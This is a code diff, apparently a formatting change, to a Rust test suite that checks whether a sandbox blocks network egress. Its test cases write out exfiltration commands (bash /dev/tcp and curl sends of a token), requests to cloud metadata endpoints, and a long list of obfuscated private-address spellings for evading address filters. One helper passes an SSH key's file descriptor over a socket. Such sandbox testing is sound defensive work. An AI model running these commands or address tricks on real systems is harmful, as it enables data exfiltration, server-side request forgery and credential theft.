@@ -19,51 +19,242 @@ const PROTOCOLS: &str = "peers: UDP, QUIC, ICMP, fast open, IPv6";
 /// (name, attack, native): the neighbour is a connection to the one permitted server.
 const ROUTES: &[(&str, &str, Native)] = &[
     ("tcp", "{kit}/net tcp 1.2.3.5 {port} {token}", Native::Works),
-    ("tcp-static", "{kit}/net-static tcp 1.2.3.5 {port} {token}", Native::Works),
-    ("tcp-nonblocking", "{kit}/net tcp-nonblock 1.2.3.5 {port} {token}", Native::Works),
-    ("tcp-v6", "{kit}/net tcp 2606:4700::1111 {port} {token}", Native::Works),
-    ("tcp-v4-mapped", "{kit}/net tcp ::ffff:1.2.3.5 {port} {token}", Native::Works),
-    ("tcp-fast-open", "{kit}/net fastopen 1.2.3.5 {port} {token}", Native::Works),
-    ("tcp-uring", "{kit}/net tcp-uring 1.2.3.5 {port} {token}", Native::Works),
-    ("tcp-marked", "{kit}/net tcp-marked 1.2.3.5 {port} {token}", Native::Works),
-    ("tcp-bound-to-device", "{kit}/net tcp-device 1.2.3.5 {port} {token}", Native::Works),
-    ("mptcp", "{kit}/net mptcp 1.2.3.5 {port} {token}", Native::Works),
+    (
+        "tcp-static",
+        "{kit}/net-static tcp 1.2.3.5 {port} {token}",
+        Native::Works,
+    ),
+    (
+        "tcp-nonblocking",
+        "{kit}/net tcp-nonblock 1.2.3.5 {port} {token}",
+        Native::Works,
+    ),
+    (
+        "tcp-v6",
+        "{kit}/net tcp 2606:4700::1111 {port} {token}",
+        Native::Works,
+    ),
+    (
+        "tcp-v4-mapped",
+        "{kit}/net tcp ::ffff:1.2.3.5 {port} {token}",
+        Native::Works,
+    ),
+    (
+        "tcp-fast-open",
+        "{kit}/net fastopen 1.2.3.5 {port} {token}",
+        Native::Works,
+    ),
+    (
+        "tcp-uring",
+        "{kit}/net tcp-uring 1.2.3.5 {port} {token}",
+        Native::Works,
+    ),
+    (
+        "tcp-marked",
+        "{kit}/net tcp-marked 1.2.3.5 {port} {token}",
+        Native::Works,
+    ),
+    (
+        "tcp-bound-to-device",
+        "{kit}/net tcp-device 1.2.3.5 {port} {token}",
+        Native::Works,
+    ),
+    (
+        "mptcp",
+        "{kit}/net mptcp 1.2.3.5 {port} {token}",
+        Native::Works,
+    ),
     ("udp", "{kit}/net udp 1.2.3.5 {port} {token}", Native::Works),
-    ("udp-connected", "{kit}/net udp-connected 1.2.3.5 {port} {token}", Native::Works),
-    ("udp-sendmsg", "{kit}/net udp-sendmsg 1.2.3.5 {port} {token}", Native::Works),
-    ("udp-sendmmsg", "{kit}/net udp-sendmmsg 1.2.3.5 {port} {token}", Native::Works),
-    ("udp-v6", "{kit}/net udp 2606:4700::1111 {port} {token}", Native::Works),
-    ("udp-v4-mapped", "{kit}/net udp ::ffff:1.2.3.5 {port} {token}", Native::Works),
-    ("udp-443", "{kit}/net udp 1.2.3.5 443 {token}", Native::Works),
-    ("udp-loopback", "{kit}/net udp 127.0.0.1 {port} {token}", Native::Works),
-    ("udplite", "{kit}/net udplite 1.2.3.5 {port} {token}", Native::Cannot("no UDP-Lite server")),
-    ("raw-udp", "{kit}/net raw-udp 1.2.3.5 {port} {token}", Native::RootOnly("raw sockets need CAP_NET_RAW")),
-    ("shell", "bash -c 'echo {token} > /dev/tcp/1.2.3.5/{port}'; bash -c 'echo {token} > /dev/udp/1.2.3.5/{port}'", Native::Works),
-    ("curl", "curl -s --max-time 3 http://1.2.3.5:{port}/{token}", Native::Works),
-    ("curl-noproxy", "curl -s --max-time 3 --noproxy '*' http://1.2.3.5:{port}/{token}; env -i curl -s --max-time 3 http://1.2.3.5:{port}/{token}", Native::Works),
-    ("python", "python3 -c 'import socket; socket.create_connection((\"1.2.3.5\", {port}), 3).send(b\"{token}\")'", Native::Works),
-    ("host-loopback-port", "{kit}/net tcp 127.0.0.1 {port} {token}; {kit}/net tcp ::1 {port} {token}; {kit}/net tcp localhost {port} {token}", Native::Works),
-    ("metadata-service", "curl -s --max-time 3 http://169.254.169.254/latest/{token}; curl -s --max-time 3 http://169.254.170.2/{token}; curl -s --max-time 3 'http://[fd00:ec2::254]/{token}'", Native::Works),
-    ("internal-host", "curl -s --max-time 3 http://10.0.0.1/{token}; curl -s --max-time 3 http://192.168.0.1:8080/{token}", Native::Works),
-    ("other-address-of-allowed-port", "{kit}/net tcp 10.0.0.1 {open} {token}-wrong; {kit}/net tcp 1.2.3.5 {open} {token}-wrong; {kit}/net tcp 127.0.0.2 {open} {token}-wrong", Native::Works),
-    ("redirect-port", "for p in 1 53 80 443 1080 3128 8080 8888 9050 15001; do {kit}/net tcp 127.0.0.1 $p {token}; done", Native::Works),
+    (
+        "udp-connected",
+        "{kit}/net udp-connected 1.2.3.5 {port} {token}",
+        Native::Works,
+    ),
+    (
+        "udp-sendmsg",
+        "{kit}/net udp-sendmsg 1.2.3.5 {port} {token}",
+        Native::Works,
+    ),
+    (
+        "udp-sendmmsg",
+        "{kit}/net udp-sendmmsg 1.2.3.5 {port} {token}",
+        Native::Works,
+    ),
+    (
+        "udp-v6",
+        "{kit}/net udp 2606:4700::1111 {port} {token}",
+        Native::Works,
+    ),
+    (
+        "udp-v4-mapped",
+        "{kit}/net udp ::ffff:1.2.3.5 {port} {token}",
+        Native::Works,
+    ),
+    (
+        "udp-443",
+        "{kit}/net udp 1.2.3.5 443 {token}",
+        Native::Works,
+    ),
+    (
+        "udp-loopback",
+        "{kit}/net udp 127.0.0.1 {port} {token}",
+        Native::Works,
+    ),
+    (
+        "udplite",
+        "{kit}/net udplite 1.2.3.5 {port} {token}",
+        Native::Cannot("no UDP-Lite server"),
+    ),
+    (
+        "raw-udp",
+        "{kit}/net raw-udp 1.2.3.5 {port} {token}",
+        Native::RootOnly("raw sockets need CAP_NET_RAW"),
+    ),
+    (
+        "shell",
+        "bash -c 'echo {token} > /dev/tcp/1.2.3.5/{port}'; bash -c 'echo {token} > /dev/udp/1.2.3.5/{port}'",
+        Native::Works,
+    ),
+    (
+        "curl",
+        "curl -s --max-time 3 http://1.2.3.5:{port}/{token}",
+        Native::Works,
+    ),
+    (
+        "curl-noproxy",
+        "curl -s --max-time 3 --noproxy '*' http://1.2.3.5:{port}/{token}; env -i curl -s --max-time 3 http://1.2.3.5:{port}/{token}",
+        Native::Works,
+    ),
+    (
+        "python",
+        "python3 -c 'import socket; socket.create_connection((\"1.2.3.5\", {port}), 3).send(b\"{token}\")'",
+        Native::Works,
+    ),
+    (
+        "host-loopback-port",
+        "{kit}/net tcp 127.0.0.1 {port} {token}; {kit}/net tcp ::1 {port} {token}; {kit}/net tcp localhost {port} {token}",
+        Native::Works,
+    ),
+    (
+        "metadata-service",
+        "curl -s --max-time 3 http://169.254.169.254/latest/{token}; curl -s --max-time 3 http://169.254.170.2/{token}; curl -s --max-time 3 'http://[fd00:ec2::254]/{token}'",
+        Native::Works,
+    ),
+    (
+        "internal-host",
+        "curl -s --max-time 3 http://10.0.0.1/{token}; curl -s --max-time 3 http://192.168.0.1:8080/{token}",
+        Native::Works,
+    ),
+    (
+        "other-address-of-allowed-port",
+        "{kit}/net tcp 10.0.0.1 {open} {token}-wrong; {kit}/net tcp 1.2.3.5 {open} {token}-wrong; {kit}/net tcp 127.0.0.2 {open} {token}-wrong",
+        Native::Works,
+    ),
+    (
+        "redirect-port",
+        "for p in 1 53 80 443 1080 3128 8080 8888 9050 15001; do {kit}/net tcp 127.0.0.1 $p {token}; done",
+        Native::Works,
+    ),
 ];
 
 /// Spellings of internal addresses, by group. Every one lands on a canary when nothing stops it.
 const SPELLINGS: &[(&str, &[&str])] = &[
-    ("decimal-octal-hex", &["167772161", "012.0.0.1", "0x0a000001", "0xa.0.0.1", "10.1", "10.0.1", "0x0a.0x0.0x0.0x1", "0012.0000.0000.0001", "10.0.0.01", "012.1"]),
-    ("loopback", &["127.0.0.1", "127.1", "0", "0.0.0.0", "2130706433", "0x7f000001", "0177.0.0.1", "127.255.255.254", "127.0.0.53", "localhost"]),
-    ("link-local", &["169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "169.16689662", "169.254.170.2"]),
-    ("private", &["10.0.0.1", "172.16.0.1", "192.168.0.1", "192.168.1", "100.64.0.1", "100.100.100.200", "198.18.0.1", "192.0.0.192", "240.0.0.1"]),
-    ("v6-local", &["::1", "::", "fd00::1", "fd00:ec2::254", "fec0::1", "fe80::1234%lo", "0:0:0:0:0:0:0:1", "fd00:0:0:0::0.0.0.1"]),
-    ("v6-with-v4-inside", &["::ffff:10.0.0.1", "::ffff:a00:1", "::ffff:127.0.0.1", "::ffff:169.254.169.254", "::ffff:7f00:1", "::10.0.0.1", "64:ff9b::a00:1", "64:ff9b::10.0.0.1", "64:ff9b:1::a00:1", "2002:a00:1::1", "2001:0:0:1::f5ff:fffe"]),
+    (
+        "decimal-octal-hex",
+        &[
+            "167772161",
+            "012.0.0.1",
+            "0x0a000001",
+            "0xa.0.0.1",
+            "10.1",
+            "10.0.1",
+            "0x0a.0x0.0x0.0x1",
+            "0012.0000.0000.0001",
+            "10.0.0.01",
+            "012.1",
+        ],
+    ),
+    (
+        "loopback",
+        &[
+            "127.0.0.1",
+            "127.1",
+            "0",
+            "0.0.0.0",
+            "2130706433",
+            "0x7f000001",
+            "0177.0.0.1",
+            "127.255.255.254",
+            "127.0.0.53",
+            "localhost",
+        ],
+    ),
+    (
+        "link-local",
+        &[
+            "169.254.169.254",
+            "2852039166",
+            "0xa9fea9fe",
+            "0251.0376.0251.0376",
+            "169.254.43518",
+            "169.16689662",
+            "169.254.170.2",
+        ],
+    ),
+    (
+        "private",
+        &[
+            "10.0.0.1",
+            "172.16.0.1",
+            "192.168.0.1",
+            "192.168.1",
+            "100.64.0.1",
+            "100.100.100.200",
+            "198.18.0.1",
+            "192.0.0.192",
+            "240.0.0.1",
+        ],
+    ),
+    (
+        "v6-local",
+        &[
+            "::1",
+            "::",
+            "fd00::1",
+            "fd00:ec2::254",
+            "fec0::1",
+            "fe80::1234%lo",
+            "0:0:0:0:0:0:0:1",
+            "fd00:0:0:0::0.0.0.1",
+        ],
+    ),
+    (
+        "v6-with-v4-inside",
+        &[
+            "::ffff:10.0.0.1",
+            "::ffff:a00:1",
+            "::ffff:127.0.0.1",
+            "::ffff:169.254.169.254",
+            "::ffff:7f00:1",
+            "::10.0.0.1",
+            "64:ff9b::a00:1",
+            "64:ff9b::10.0.0.1",
+            "64:ff9b:1::a00:1",
+            "2002:a00:1::1",
+            "2001:0:0:1::f5ff:fffe",
+        ],
+    ),
 ];
 
 /// All cases of this theme.
 pub fn cases() -> Vec<Case> {
     let mut all = Vec::new();
     for (name, attack, native) in ROUTES {
-        let check = if *name == "other-address-of-allowed-port" { Unheard("{token}-wrong".into()) } else { NoTraffic };
+        let check = if *name == "other-address-of-allowed-port" {
+            Unheard("{token}-wrong".into())
+        } else {
+            NoTraffic
+        };
         all.push(
             Case::new(format!("network/unlisted/{name}"), PROTOCOLS)
                 .attack(*attack, [check])
@@ -74,27 +265,45 @@ pub fn cases() -> Vec<Case> {
     }
     for (group, names) in SPELLINGS {
         for route in ["tcp", "udp"] {
-            let attack: Vec<String> = names.iter().map(|n| format!("{{kit}}/net {route} '{n}' {{port}} '{{token}} as {n}' &")).collect();
+            let attack: Vec<String> = names
+                .iter()
+                .map(|n| format!("{{kit}}/net {route} '{n}' {{port}} '{{token}} as {n}' &"))
+                .collect();
             all.push(
-                Case::new(format!("network/spelling/{group}-{route}"), "srt protected-assets: spellings of private addresses")
-                    .rules(PUBLIC)
-                    .attack(format!("{}\nwait", attack.join("\n")), [NoTraffic])
-                    .neighbour("{kit}/net tcp 1.2.3.4 {open} {token}", [says("HELLO")])
-                    .with(|c| c.net = true),
+                Case::new(
+                    format!("network/spelling/{group}-{route}"),
+                    "srt protected-assets: spellings of private addresses",
+                )
+                .rules(PUBLIC)
+                .attack(format!("{}\nwait", attack.join("\n")), [NoTraffic])
+                .neighbour("{kit}/net tcp 1.2.3.4 {open} {token}", [says("HELLO")])
+                .with(|c| c.net = true),
             );
         }
         let attack: Vec<String> = names
             .iter()
             .filter(|n| !n.contains('%'))
-            .map(|n| if n.contains(':') { format!("http://[{n}]:{{port}}/{{token}}") } else { format!("http://{n}:{{port}}/{{token}}") })
+            .map(|n| {
+                if n.contains(':') {
+                    format!("http://[{n}]:{{port}}/{{token}}")
+                } else {
+                    format!("http://{n}:{{port}}/{{token}}")
+                }
+            })
             .map(|u| format!("curl -gs --max-time 3 '{u}' &"))
             .collect();
         all.push(
-            Case::new(format!("network/spelling/{group}-curl"), "srt protected-assets: spellings of private addresses")
-                .rules(PUBLIC)
-                .attack(format!("{}\nwait", attack.join("\n")), [NoTraffic])
-                .neighbour("curl -s --max-time 5 http://1.2.3.4:{open}/", [says("HELLO")])
-                .with(|c| c.net = true),
+            Case::new(
+                format!("network/spelling/{group}-curl"),
+                "srt protected-assets: spellings of private addresses",
+            )
+            .rules(PUBLIC)
+            .attack(format!("{}\nwait", attack.join("\n")), [NoTraffic])
+            .neighbour(
+                "curl -s --max-time 5 http://1.2.3.4:{open}/",
+                [says("HELLO")],
+            )
+            .with(|c| c.net = true),
         );
     }
     all.extend(names());
@@ -208,9 +417,12 @@ fn knock(w: &World) -> Result<(), String> {
 fn unix() -> Vec<Case> {
     let own = "python3 -c 'import socket; s=socket.socket(1); s.bind(\"{work}/own.sock\"); s.listen(); c=socket.socket(1); c.connect(\"{work}/own.sock\"); c.send(b\"x\"); print(\"own-ok\", s.accept()[0].recv(1))'";
     let own_dgram = "python3 -c 'import socket; s=socket.socket(1,2); s.bind(\"{work}/own.sock\"); c=socket.socket(1,2); c.sendto(b\"x\",\"{work}/own.sock\"); print(\"own-ok\", s.recv(1))'";
-    let sources = "peers: abstract and named sockets of host daemons; sandlock named_unix_dgram_sendmmsg";
+    let sources =
+        "peers: abstract and named sockets of host daemons; sandlock named_unix_dgram_sendmmsg";
     let case = |name: &str, attack: &str, neighbour: &str| {
-        Case::new(format!("network/unix/{name}"), sources).attack(attack, [NoTraffic]).neighbour(neighbour, [says("own-ok")])
+        Case::new(format!("network/unix/{name}"), sources)
+            .attack(attack, [NoTraffic])
+            .neighbour(neighbour, [says("own-ok")])
     };
     vec![
         case("abstract", "{kit}/net unix-stream {abstract} 0 {token}", own),
@@ -236,7 +448,8 @@ fn unix() -> Vec<Case> {
 
 /// A server of the host that listens inside the workspace.
 fn workspace_socket(w: &World) -> Result<(), String> {
-    let listener = std::os::unix::net::UnixListener::bind(w.path("work/host.sock")).map_err(|e| e.to_string())?;
+    let listener = std::os::unix::net::UnixListener::bind(w.path("work/host.sock"))
+        .map_err(|e| e.to_string())?;
     w.mode("work/host.sock", 0o777);
     serve_marked(w, listener);
     Ok(())
@@ -262,8 +475,12 @@ s=socket.socket(1); s.bind(sys.argv[1]); os.chmod(sys.argv[1],0o777); s.listen()
 c,_=s.accept(); c.recv(10)
 socket.send_fds(c,[b'x'],[os.open(sys.argv[2],os.O_RDONLY)])";
     let mut cmd = std::process::Command::new("/usr/bin/python3");
-    cmd.args(["-c", script]).arg(w.path("pub/scm.sock")).arg(w.path("home/.ssh/id_ed25519"));
-    agentwall_tests::run::silent(&mut cmd).spawn().map_err(|e| e.to_string())?;
+    cmd.args(["-c", script])
+        .arg(w.path("pub/scm.sock"))
+        .arg(w.path("home/.ssh/id_ed25519"));
+    agentwall_tests::run::silent(&mut cmd)
+        .spawn()
+        .map_err(|e| e.to_string())?;
     for _ in 0..100 {
         if w.path("pub/scm.sock").exists() {
             return Ok(());
